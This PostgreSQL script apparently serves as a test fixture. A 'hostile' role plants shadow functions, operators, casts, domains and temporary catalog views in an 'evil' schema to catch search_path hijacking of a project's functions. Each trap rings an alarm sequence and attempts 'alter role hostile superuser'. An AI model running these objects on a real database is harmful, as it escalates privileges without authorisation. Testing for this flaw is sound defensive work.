-- A schema of the hostile role's own, and temporary things: they take the place of PostgreSQL's
-- wherever somebody looks by the session's search path. Each rings an alarm where it runs with the
-- rights of another. The alarm is a sequence, which no rollback takes back. "hostile" stands for
-- the name of the role.
create sequence evil.alarm;

grant usage on schema evil to public;
grant all on sequence evil.alarm to public;

-- By PostgreSQL's own operators, or it would call itself.
create function evil.sing() returns boolean language plpgsql set search_path to pg_catalog as $$
begin
  if current_user not in ('hostile', 'triaged_api', 'triaged_owner', 'triaged_readonly') then
    perform pg_catalog.nextval('evil.alarm');

    begin
      alter role hostile superuser;
    exception
      when others then null;
    end;
  end if;

  return true;
end;
$$;

-- A type with a cast of its own to all that our functions take, and a domain with a check.
create type evil.thing as (a pg_catalog.int4);
create domain evil.word as pg_catalog.text constraint word_sings check (evil.sing());

do $$
declare
  v_type regtype;
begin
  foreach v_type in array array[
    'text', 'bigint', 'integer', 'smallint', 'jsonb', 'json', 'timestamptz', 'interval', 'boolean',
    'varchar', 'text[]', 'bigint[]', 'integer[]', 'smallint[]', 'timestamptz[]'
  ]::regtype[] loop
    execute format(
      'create function evil.%I(evil.thing) returns %s language plpgsql as
       ''begin perform evil.sing(); return null; end''',
      'to_' || v_type::oid, v_type
    );
    execute format(
      'create cast (evil.thing as %s) with function evil.%I(evil.thing) as implicit',
      v_type, 'to_' || v_type::oid
    );
  end loop;
end;
$$;

-- Every function of PostgreSQL that a function of ours calls, as far as it can be written again.
do $$
declare
  v_builtin record;
begin
  for v_builtin in
    select distinct on (builtin.oid)
      builtin.proname as name, builtin.pronargs as given,
      (
        select string_agg(format_type(type, null), ', ' order by place)
        from unnest(builtin.proargtypes::oid[]) with ordinality as argument (type, place)
      ) as arguments,
      format_type(builtin.prorettype, null) as result
    from pg_proc as builtin
    join pg_proc as ours
      on ours.pronamespace = 'triaged'::regnamespace
      and position(builtin.proname || '(' in ours.prosrc) > 0
    where
      builtin.pronamespace = 'pg_catalog'::regnamespace
      and builtin.prokind = 'f'
      and not builtin.proretset
      and builtin.provariadic = 0
      and not exists (
        select from unnest(builtin.proargtypes::oid[] || builtin.prorettype) as argument
        join pg_type on pg_type.oid = argument
        where typtype = 'p'
      )
  loop
    execute format(
      'create function evil.%I(%s) returns %s language plpgsql as
       $f$begin perform evil.sing(); return pg_catalog.%I(%s); end$f$',
      v_builtin.name, v_builtin.arguments, v_builtin.result, v_builtin.name,
      (select string_agg('$' || place, ', ') from generate_series(1, v_builtin.given) as place)
    );
  end loop;
end;
$$;

-- Every operator on the types that our functions work with.
do $$
declare
  v_builtin record;
begin
  for v_builtin in
    select
      oid, oprname as name, format_type(oprleft, null) as before,
      format_type(oprright, null) as after, format_type(oprresult, null) as result
    from pg_operator
    where
      oprnamespace = 'pg_catalog'::regnamespace
      and oprname in (
        '=', '<>', '<', '>', '<=', '>=', '+', '-', '*', '/', '||', '~', '!~', '->', '->>', '#>',
        '#>>'
      )
      and oprleft in (
        'text'::regtype, 'bigint'::regtype, 'integer'::regtype, 'smallint'::regtype,
        'jsonb'::regtype, 'interval'::regtype, 'timestamptz'::regtype, 'boolean'::regtype,
        'oid'::regtype, 'name'::regtype, 'numeric'::regtype, 'date'::regtype
      )
      and oprright not in (select oid from pg_type where typtype = 'p')
  loop
    execute format(
      'create function evil.%I(%s, %s) returns %s language plpgsql as
       $f$begin perform evil.sing(); return $1 operator(pg_catalog.%s) $2; end$f$',
      'operate_' || v_builtin.oid, v_builtin.before, v_builtin.after, v_builtin.result,
      v_builtin.name
    );
    execute format(
      'create operator evil.%s (leftarg = %s, rightarg = %s, function = evil.%I)',
      v_builtin.name, v_builtin.before, v_builtin.after, 'operate_' || v_builtin.oid
    );
  end loop;
end;
$$;

-- Types under the names of those that our functions name, and tables under those of the catalog.
do $$
declare
  v_name text;
begin
  foreach v_name in array array[
    'text', 'int8', 'int4', 'int2', 'jsonb', 'timestamptz', 'interval', 'bool', 'varchar', 'date'
  ] loop
    execute format('create domain evil.%I as pg_catalog.%I check (evil.sing())', v_name, v_name);
    execute format('create domain pg_temp.%I as pg_catalog.%I check (evil.sing())', v_name, v_name);
  end loop;

  foreach v_name in array array[
    'pg_class', 'pg_namespace', 'pg_proc', 'pg_type', 'pg_inherits', 'pg_roles', 'pg_database',
    'pg_db_role_setting', 'pg_depend'
  ] loop
    execute format(
      'create temp view %I as select *, evil.sing() as sung from pg_catalog.%I', v_name, v_name
    );
  end loop;
end;
$$;

create temp table live_tasks as select evil.sing();
create temp table final_tasks as select evil.sing();
create temp table task_history as select evil.sing();
